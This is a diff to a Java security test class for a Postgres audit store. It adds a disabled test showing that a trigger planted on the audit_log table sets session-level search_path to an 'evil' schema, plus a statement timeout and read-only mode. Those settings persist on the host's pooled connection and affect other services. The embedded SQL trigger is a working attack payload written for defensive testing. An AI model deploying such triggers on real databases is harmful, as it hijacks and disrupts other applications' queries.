@@ -12,8 +12,11 @@ import dev.secureyeoman.testkit.PostgresServer;
 import java.io.StringWriter;
 import java.sql.Connection;
 import java.sql.DriverManager;
+import java.sql.ResultSet;
 import java.sql.SQLException;
 import java.sql.Statement;
+import java.lang.reflect.InvocationTargetException;
+import java.lang.reflect.Proxy;
 import java.util.ArrayList;
 import java.util.List;
 import java.util.Optional;
@@ -21,6 +24,7 @@ import org.junit.jupiter.api.Disabled;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.condition.EnabledIf;
 import org.junit.jupiter.api.extension.ExtendWith;
+import javax.sql.DataSource;
 import org.postgresql.ds.PGSimpleDataSource;
 
 /**
@@ -198,6 +202,89 @@ class Attack18fTest {
           () -> store.append(AuditEvent.builder("admin.action").actor("mallory").message("more").build()));
       assertEquals(AuditException.Reason.TAMPERED, e.reason());
     }
+  }
+
+  // ---------------------------------------------------------------------------------------------------------------
+  // C. The store pins search_path for each of its transactions and puts lock_timeout back, but code of the attacker's
+  // runs inside its write transactions on the host's pooled connection: a trigger on audit_log. set_config(…, false)
+  // there is a session-level change that survives the store's COMMIT, so the host's connection goes back to the pool
+  // with the attacker's search_path (secure-auth's statements on the same pool are unqualified), statement_timeout,
+  // default_transaction_read_only … .
+  // ---------------------------------------------------------------------------------------------------------------
+
+  @Test
+  @Disabled("attack18f: works — a trigger on audit_log sets session-level search_path/statement_timeout/read-only "
+      + "inside the append transaction; the host's pooled connection keeps them after append returns")
+  void triggerOnAuditLog_changesSessionSettingsOfTheHostsPooledConnection(PostgresDatabase db) throws Exception {
+    PGSimpleDataSource ds = nodeRole(db);
+    try (Connection pooled = ds.getConnection()) {
+      DataSource pool = oneConnectionPool(pooled);
+      String pathBefore = show(pooled, "search_path");
+      String timeoutBefore = show(pooled, "statement_timeout");
+      String readOnlyBefore = show(pooled, "default_transaction_read_only");
+      try (AuditStore store = PostgresAuditStore.builder(pool).macKey(key()).open()) {
+        store.append(AuditEvent.builder("admin.action").actor("alice").message("before").build());
+        asNode(ds,
+            "CREATE FUNCTION public.leak() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN "
+                + "PERFORM pg_catalog.set_config('search_path', 'evil, pg_catalog, public', false); "
+                + "PERFORM pg_catalog.set_config('statement_timeout', '4711', false); "
+                + "PERFORM pg_catalog.set_config('default_transaction_read_only', 'on', false); "
+                + "RETURN NULL; END $$",
+            "CREATE TRIGGER leak AFTER INSERT ON public.audit_log FOR EACH STATEMENT EXECUTE FUNCTION public.leak()");
+        store.append(AuditEvent.builder("admin.action").actor("alice").message("after").build());
+        // what the host's next user of the pooled connection (e.g. the auth service) runs with
+        String path = show(pooled, "search_path");
+        String timeout = show(pooled, "statement_timeout");
+        String readOnly = show(pooled, "default_transaction_read_only");
+        assertEquals(List.of(pathBefore, timeoutBefore, readOnlyBefore), List.of(path, timeout, readOnly),
+            "the pooled connection kept the trigger's session settings");
+      }
+    }
+  }
+
+  private static String show(Connection c, String setting) throws SQLException {
+    try (Statement s = c.createStatement(); ResultSet rs = s.executeQuery("SHOW " + setting)) {
+      rs.next();
+      return rs.getString(1);
+    }
+  }
+
+  /**
+   * A pool of one connection, as HikariCP behaves for the settings that matter here: {@code close()} hands it back
+   * (auto-commit, isolation and read-only are reset by the pool; server-side session settings are not).
+   */
+  private static DataSource oneConnectionPool(Connection physical) {
+    Connection handle = (Connection) Proxy.newProxyInstance(
+        Attack18fTest.class.getClassLoader(), new Class<?>[] {Connection.class}, (proxy, m, args) -> {
+          switch (m.getName()) {
+            case "close":
+              if (!physical.getAutoCommit()) {
+                physical.rollback();
+              }
+              physical.setAutoCommit(true);
+              physical.setReadOnly(false);
+              physical.setTransactionIsolation(Connection.TRANSACTION_READ_COMMITTED);
+              return null;
+            case "isClosed":
+              return false;
+            default:
+              try {
+                return m.invoke(physical, args);
+              } catch (InvocationTargetException e) {
+                throw e.getCause();
+              }
+          }
+        });
+    return (DataSource) Proxy.newProxyInstance(
+        Attack18fTest.class.getClassLoader(), new Class<?>[] {DataSource.class}, (proxy, m, args) -> {
+          if (m.getName().equals("getConnection")) {
+            return handle;
+          }
+          if (m.getName().equals("isWrapperFor")) {
+            return false;
+          }
+          throw new UnsupportedOperationException(m.getName());
+        });
   }
 
   private static void blindColumnCheck(PGSimpleDataSource ds) throws SQLException {
